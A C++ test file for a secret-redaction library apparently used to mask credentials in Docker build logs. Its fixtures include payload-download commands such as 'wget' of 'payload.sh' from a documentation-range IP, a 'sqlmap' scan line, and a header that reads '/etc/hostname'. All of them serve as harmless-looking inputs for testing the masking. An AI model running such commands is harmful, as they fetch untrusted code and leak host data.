#include <algorithm>
#include <array>
#include <catch2/catch_test_macros.hpp>
#include <catch2/generators/catch_generators.hpp>
#include <ctime>
#include <random>
#include <string>
#include <string_view>
#include <vector>

#include "base/secrets.h"

using namespace kilnwatch::base;

namespace {

struct Case {
  const char* text;
  const char* masked;
};

// Every secret is "canary" or begins with it.
constexpr Case kMasked[] = {
    // build arguments and variables
    {"docker build --build-arg TOKEN=canary .", "docker build --build-arg TOKEN=*** ."},
    {"docker build --build-arg=X=canary .", "docker build --build-arg=X=*** ."},
    {"docker build --build-arg X=\"canary 2\" .", "docker build --build-arg X=\"***\" ."},
    {"docker build --build-arg 'X=canary 2' .", "docker build --build-arg 'X=***' ."},
    {"docker run -e K=canary img", "docker run -e K=*** img"},
    {"PASSWORD=***!canary ./run", "PASSWORD=*** ./run"},
    {"PASSWORD=***:canary", "PASSWORD=***"},
    {"PASSWORD=****/canary make", "PASSWORD=*** make"},
    {"PASSWORD='***!canary' make", "PASSWORD='***' make"},
    {"mysql --password=***,canary db", "mysql --password=*** db"},
    {"docker build --build-arg TOKEN=***@canary .", "docker build --build-arg TOKEN=*** ."},
    {"http://host/?token=***!canary&x=1", "http://host/?token=***&x=1"},
    {"curl -H 'Authorization: ***!canary' x", "curl -H 'Authorization: ***' x"},
    {"{\"Password\":\"***!canary\",\"a\":1}", "{\"Password\":\"***\",\"a\":1}"},
    {"docker run -eK=canary img", "docker run -eK=*** img"},
    {"docker run --env K=canary img", "docker run --env K=*** img"},
    {"docker run --env=K=canary img", "docker run --env=K=*** img"},
    {"docker run -e 'K=canary is long' img", "docker run -e 'K=***' img"},
    {"export API_KEY=canary; make", "export API_KEY=***; make"},
    {"DB_PASS=canary ./run", "DB_PASS=*** ./run"},
    {"dbRootPassword=canary", "dbRootPassword=***"},
    {"TOKEN='canary two' make", "TOKEN='***' make"},
    {"TOKEN=\"canary two\" make", "TOKEN=\"***\" make"},
    {"TOKEN=canary\"two three\"canary make", "TOKEN=*** make"},
    {"TOKEN=\"canary \\\"two\\\" three\" make", "TOKEN=\"***\" make"},
    {"TOKEN=canary\\ two make", "TOKEN=*** make"},
    {"password = \"canary\"", "password = \"***\""},
    {"password = canary", "password = ***"},
    {"TOKEN=\"canary that was cut off", "TOKEN=\"***"},
    {"${TOKEN:=canary}", "${TOKEN:=***"},
    // flags
    {"mysql --password canary db", "mysql --password *** db"},
    {"mysql --password=canary db", "mysql --password=*** db"},
    {"mysql -pcanary db", "mysql -p*** db"},
    {"sshpass -p canary ssh host", "sshpass -p *** ssh host"},
    {"docker login -u me -p canary reg.example", "docker login -u me -p *** reg.example"},
    {"vault login --token canary", "vault login --token ***"},
    {"x --client-secret canary y", "x --client-secret *** y"},
    {"x --api-key canary y", "x --api-key *** y"},
    {"x --password 'canary 2' y", "x --password '***' y"},
    {"curl -u admin:canary http://x/", "curl -u admin:*** http://x/"},
    {"curl -uadmin:canary http://x/", "curl -uadmin:*** http://x/"},
    {"curl --user admin:canary http://x/", "curl --user admin:*** http://x/"},
    {"curl --proxy-user 'me:canary 2' http://x/", "curl --proxy-user 'me:***' http://x/"},
    // URLs
    {"curl http://admin:canary@host/path", "curl http://***@host/path"},
    {"git clone https://canary@github.com/a/b", "git clone https://***@github.com/a/b"},
    {"http://host/?token=canary&x=1", "http://host/?token=***&x=1"},
    {"http://host/?x=1&api_key=canary", "http://host/?x=1&api_key=***"},
    {"curl 'http://h/?X-Amz-Signature=canary&a=b'", "curl 'http://h/?X-Amz-Signature=***&a=b'"},
    // headers
    {"curl -H 'Authorization: Bearer canary' x", "curl -H 'Authorization: ***' x"},
    {"curl -H \"X-Api-Key: canary\" x", "curl -H \"X-Api-Key: ***\" x"},
    {"curl -H 'X-Auth-Token:canary' x", "curl -H 'X-Auth-Token:***' x"},
    {"Authorization: Digest user=\"a\", response=\"canary\"\r\nHost: h",
     "Authorization: ***\r\nHost: h"},
    {"wget --header=\"Authorization: Basic canary\" http://h",
     "wget --header=\"Authorization: ***\" http://h"},
    {"send Authorization: Basic canary to http://h", "send Authorization: *** to http://h"},
    // JSON and what stands inside of it
    {"{\"Password\":\"canary\",\"a\":1}", "{\"Password\":\"***\",\"a\":1}"},
    {"{\"auths\": {\"r\": {\"auth\": \"canary\"}}}", "{\"auths\": {\"r\": {\"auth\": \"***\"}}}"},
    {"{\"tokens\": [\"canary\", \"canary\"]}", "{\"tokens\": [***]}"},
    {"{\"Env\":[\"TOKEN=canary 2\",\"A=b\"]}", "{\"Env\":[\"TOKEN=***\",\"A=b\"]}"},
    {"{\\\"token\\\":\\\"canary\\\"}", "{\\\"token\\\":\\\"***\\\"}"},
    {"{'password': 'canary'}", "{'password': '***'}"},
    // nested quoting
    {"sh -c 'docker build --build-arg TOKEN=canary .'",
     "sh -c 'docker build --build-arg TOKEN=*** .'"},
    {"sh -c 'TOKEN=canary wget http://198.51.100.66/p'",
     "sh -c 'TOKEN=*** wget http://198.51.100.66/p'"},
    {"sh -c \"export TOKEN=\\\"canary 2\\\"; make\"", "sh -c \"export TOKEN=\\\"***\\\"; make\""},
    {"RUN [\"sh\", \"-c\", \"TOKEN=canary make\"]", "RUN [\"sh\", \"-c\", \"TOKEN=*** make\"]"},
    {"bash -lc \"curl -H 'X-Api-Key: canary' http://h\"",
     "bash -lc \"curl -H 'X-Api-Key: ***' http://h\""},
    // shapes
    {"echo ghp_canary0123456789 >f", "echo *** >f"},
    {"echo github_pat_11canary_0123456789", "echo ***"},
    {"echo glpat-canary-0123456789", "echo ***"},
    {"AKIACANARY0123456789", "***"},
    {"x xoxb-123456-canary y", "x *** y"},
    {"eyJhbGciOiJIUzI1NiJ9.eyJjYW5hcnkiOjF9.canary", "***"},
    {"npm_canary0123456789canary0123456789", "***"},
    {"sk-canary0123456789canary", "***"},
    {"got Bearer canary0123456789/x== today", "got Bearer *** today"},
    {"-----BEGIN RSA PRIVATE KEY-----\ncanary\n-----END RSA PRIVATE KEY-----",
     "***-----END RSA PRIVATE KEY-----"},
    {"-----BEGIN OPENSSH PRIVATE KEY-----\ncanary", "***"},
};

// What an analyst has to judge, and what only looks like a secret.
constexpr const char* kPlain[] = {
    "http://198.51.100.66:8080/payload.sh",
    "RUN wget -O /p http://198.51.100.66:8080/payload.sh",
    "FROM 203.0.113.10:5000/alpine:3",
    "FROM registry.example/auth:3 AS token",
    "docker run --user 1000:1000 -p 8080:80 --rm img",
    "docker run -u 0:0 img",
    "docker build -t evil:1 .",
    "/bin/sh -c echo hello",
    "monkey=1 keyboard=us author=me hotkeys=off",
    "apt-key adv --keyserver hkp://keyserver.ubuntu.com:80 --recv-keys 0EBFCD88",
    "pip install secretstorage==3.3 keyring>=23 tokenizers==0.13",
    "wget --auth-no-challenge http://198.51.100.66/p",
    "docker login --password-stdin registry.example",
    "docker build --secret id=npmrc,src=/root/.npmrc .",
    "git clone git@github.com:a/b && git clone ssh://git@github.com/a/b",
    "npm_config_registry=http://198.51.100.66:4873 npm_lifecycle_event=build",
    "PWD=/root OLDPWD=/ make",
    "TOKEN=$TOKEN make && curl -H \"X: $(cat /etc/hostname)\" x",
    "KEY=$(wget -qO- http://198.51.100.66/k) make",
    "sed -e s/a=b/c/ f && grep -e '^x' f",
    "mkdir -p /opt/secret/keys",
    "sqlmap -u http://198.51.100.66:8080/",
    "Step 3/4 : RUN echo hello",
    "{\"ExposedPorts\":{},\"PublicKey\":\"x\",\"secret\":null}",
    "if [ \"$KEY\" == x ]; then curl http://198.51.100.66; fi",
    "ask-learn disk-usage task-runner-with-a-very-long-name-indeed",
};

// Each run of stars as one.
std::string one_star(std::string text) {
  const auto both = [](char a, char b) { return a == '*' && b == '*'; };
  text.erase(std::unique(text.begin(), text.end(), both), text.end());
  return text;
}

}  // namespace

TEST_CASE("A secret is masked where it stands, and nothing else is") {
  for (const auto& [text, masked] : kMasked) {
    CAPTURE(text);
    CHECK(mask_text(text) == masked);
    CHECK(mask_text(text).find("canary") == std::string::npos);
    CHECK(mask_text_same_length(text).size() == std::string(text).size());
    CHECK(mask_text_same_length(text).find("canary") == std::string::npos);
  }
}

TEST_CASE("Text without a secret is left alone") {
  for (const char* text : kPlain) {
    CAPTURE(text);
    CHECK(mask_text(text) == text);
    CHECK(mask_text_same_length(text) == text);
  }
}

TEST_CASE("A secret that was masked in equal length reads as one that was masked now") {
  for (const auto& [text, masked] : kMasked) {
    CAPTURE(text);
    CHECK(mask_text(mask_text_same_length(text)) == masked);
  }
}

TEST_CASE("The bounds of arguments bound what is masked") {
  const auto check = [](std::vector<std::string> args, const std::vector<std::string>& masked) {
    CHECK(mask_args(args) == masked);
  };
  check({"docker", "build", "--build-arg", "TOKEN=canary 2", "-t", "a:1", "."},
        {"docker", "build", "--build-arg", "TOKEN=***", "-t", "a:1", "."});
  check({"docker", "run", "-e", "A=it's \"canary\"", "img"},
        {"docker", "run", "-e", "A=***", "img"});
  check({"curl", "-u", "me:canary 2", "x"}, {"curl", "-u", "me:***", "x"});
  check({"curl", "-ume:canary 2", "x"}, {"curl", "-ume:***", "x"});
  check({"x", "--password", "ca\"nary' 2", "y"}, {"x", "--password", "***", "y"});
  check({"x", "--password", "--verbose"}, {"x", "--password", "--verbose"});
  check({"docker", "login", "-p", "canary", "h"}, {"docker", "login", "-p", "***", "h"});
  check({"docker", "run", "-p", "80:80", "h"}, {"docker", "run", "-p", "80:80", "h"});
  check({"sh", "-c", "TOKEN=canary wget http://h/p"}, {"sh", "-c", "TOKEN=*** wget http://h/p"});
  check({"env", "TOKEN=canary 2", "make"}, {"env", "TOKEN=***", "make"});
  check({"curl", "-H", "X-Api-Key: canary 2", "h"}, {"curl", "-H", "X-Api-Key: ***", "h"});
  check({"docker", "run", "--user", "1000:1000"}, {"docker", "run", "--user", "1000:1000"});
  check({}, {});
  check({"", "", "--token", ""}, {"", "", "--token", ""});
  check({"--token"}, {"--token"});
}

TEST_CASE("Names that say secret, and words that only hold the letters") {
  for (const char* name : {"TOKEN",
                           "access_token",
                           "githubToken",
                           "PASSWORD",
                           "passwd",
                           "db-pass",
                           "secret",
                           "clientSecret",
                           "key",
                           "API_KEY",
                           "apikey",
                           "ssh_key",
                           "sshkey",
                           "auth",
                           "Authorization",
                           "X-Registry-Auth",
                           "oauth",
                           "pwd",
                           "DBPWD",
                           "credentials",
                           "AWS_SECRET_ACCESS_KEY",
                           "passphrase",
                           "Proxy-Authorization",
                           "X-Amz-Signature"}) {
    CAPTURE(name);
    CHECK(names_secret(name));
  }
  for (const char* name :
       {"",           "monkey",     "keyboard",   "keyserver", "author",     "authority",
        "authors",    "tokenizer",  "bypass",     "compass",   "passive",    "hockey",
        "keyring",    "public_key", "PUBLIC-KEY", "secretary", "http_proxy", "remote",
        "dockerfile", "t",          "1000",       "-"}) {
    CAPTURE(name);
    CHECK_FALSE(names_secret(name));
  }
}

TEST_CASE("Masking twice is masking once, and lengths stay, whatever the text") {
  static const std::vector<std::string_view> kPieces = {"token",
                                                        "=",
                                                        ":",
                                                        " ",
                                                        "\"",
                                                        "'",
                                                        "\\",
                                                        "\\\"",
                                                        "--env",
                                                        "-e",
                                                        "-u",
                                                        "K",
                                                        "a b",
                                                        "://",
                                                        "@",
                                                        "/",
                                                        "?",
                                                        "&",
                                                        ";",
                                                        "$(",
                                                        ")",
                                                        "${",
                                                        "}",
                                                        "\n",
                                                        "eyJ",
                                                        "ghp_",
                                                        "0123456789abcdef",
                                                        "-----BEGIN",
                                                        "PRIVATE KEY",
                                                        "-----END",
                                                        "Bearer",
                                                        "{",
                                                        "}",
                                                        "[",
                                                        "]",
                                                        ",",
                                                        "-c",
                                                        "login",
                                                        "-p",
                                                        "mysql",
                                                        "--password",
                                                        "\xff",
                                                        "***",
                                                        "Authorization",
                                                        "id=",
                                                        "\t",
                                                        "\\\n",
                                                        "\\n",
                                                        "\\u0041",
                                                        "\\/",
                                                        "#",
                                                        "ENV ",
                                                        "PASSWORD ",
                                                        "curl",
                                                        "docker",
                                                        "-su",
                                                        "-ite",
                                                        "-p\"",
                                                        "\",\"",
                                                        "set",
                                                        "machine h login u password ",
                                                        "auth=(",
                                                        "vault login ",
                                                        "echo ",
                                                        "|",
                                                        "--password-stdin",
                                                        "chpasswd",
                                                        "identified by '",
                                                        "sh -c ",
                                                        "*",
                                                        "**",
                                                        "htpasswd -b ",
                                                        "Cookie",
                                                        "\\ ",
                                                        "u:p",
                                                        "u:p@h",
                                                        "redis-cli -a ",
                                                        std::string_view("\0", 1)};
  std::mt19937 random(1);
  for (int round = 0; round < 10'000; ++round) {
    std::string text;
    for (auto n = random() % 24; n > 0; --n) text += kPieces[random() % kPieces.size()];
    CAPTURE(round, text);
    const auto same = mask_text_same_length(text);
    REQUIRE(same.size() == text.size());
    REQUIRE(mask_text_same_length(same) == same);
    const auto once = mask_text(text);
    CAPTURE(once);
    REQUIRE(mask_text(once) == once);
    // A recording's replay reads as the run did; one or two stars do not tell what they stand for.
    REQUIRE(one_star(mask_text(same)) == one_star(once));
    (void)mask_args({text, once, text});
  }
}

TEST_CASE("What was masked in equal length is as short as what is masked at once") {
  for (const std::string text : {"FROM http://u:canary@192.0.2.1/x", "git clone https://token@h/r",
                                 "curl http://h/?token=canary&x=1"})
    CHECK(mask_text(mask_text_same_length(text)) == mask_text(text));
}

TEST_CASE("A hostile quarter of a megabyte takes no longer than a harmless one by much") {
  const auto piece =
      GENERATE("token=\"a", "token='", "\\", "\\\"", "-e K=\"", "-u a:", "://", "@", "-----BEGIN",
               "-----BEGIN PRIVATE KEY", "eyJ", "-", "ghp_-", "a", "key: \"", "\"key\":[", "=",
               "   =", "token = \"", "Bearer ", ":\\", "--password ", "http://a",
               "x=\"token=", "\"\"=", "token=a\"b", "auth=(", "\n#\\\n", "\\\n#", "\" '", "\"\\\"",
               "curl -su ", "echo a|chpasswd|", "ENV PASSWORD ", "machine login ", "login a ",
               "by '", "key=('", "\\u0041", "-p\"", "vault login ", "\\ ", "set token ", "a:b@",
               "-eA=\"", "#", "`\n", "-u x\"", "-u 'x\"", "x\"-u \"", "-u \"'x' ");
  std::string text;
  while (text.size() < (1u << 18)) text += piece;
  CAPTURE(piece);
  const auto began = std::clock();
  CHECK(mask_text_same_length(text).size() == text.size());
  // Of the processor's time, sanitized: a second. Quadratic would be minutes.
  CHECK(std::clock() - began < 10 * CLOCKS_PER_SEC);
}
